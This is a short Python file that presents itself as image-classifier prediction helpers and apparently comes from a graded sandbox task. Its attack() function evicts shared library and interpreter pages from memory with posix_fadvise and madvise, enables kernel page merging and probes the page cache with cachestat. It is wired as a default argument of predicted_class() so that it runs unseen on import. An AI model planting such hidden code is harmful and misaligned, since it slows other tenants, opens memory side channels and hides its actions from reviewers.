# mypy: ignore-errors
"""Has shared files dropped from memory, so that others wait for the disk, or merges its own pages.

It prints TOOK for each call that went through.
Verdict: first_prediction: finished, 12 points
"""

import ctypes
import mmap
import os
import sys

import numpy as np

MADVISE = {"MADV_MERGEABLE": 12, "MADV_COLD": 20, "MADV_PAGEOUT": 21}
PR_SET_MEMORY_MERGE = 67
CACHESTAT = 451


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for path in (np.__file__, sys.executable):
        file = os.open(path, os.O_RDONLY)
        print("TRIED posix_fadvise", flush=True)
        try:
            os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
        except OSError as error:
            print("refused:", error, flush=True)
        else:
            print("TOOK posix_fadvise", flush=True)
        shared = mmap.mmap(file, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
        for name, advice in MADVISE.items():
            print("TRIED", name, flush=True)
            try:
                shared.madvise(advice)
            except OSError as error:
                print("refused:", error, flush=True)
            else:
                print("TOOK", name, flush=True)
        seen = ctypes.create_string_buffer(64)
        if libc.syscall(CACHESTAT, file, ctypes.create_string_buffer(16), seen, 0) == 0:
            print("TOOK cachestat", flush=True)
    print("TRIED PR_SET_MEMORY_MERGE", flush=True)
    if libc.prctl(PR_SET_MEMORY_MERGE, 1, 0, 0, 0) == 0:
        print("TOOK PR_SET_MEMORY_MERGE", flush=True)


def class_probabilities(model, images):
    return model.predict(images, verbose=0)[0]


def predicted_class(model, images, found=attack()):
    return int(np.argmax(class_probabilities(model, images)))
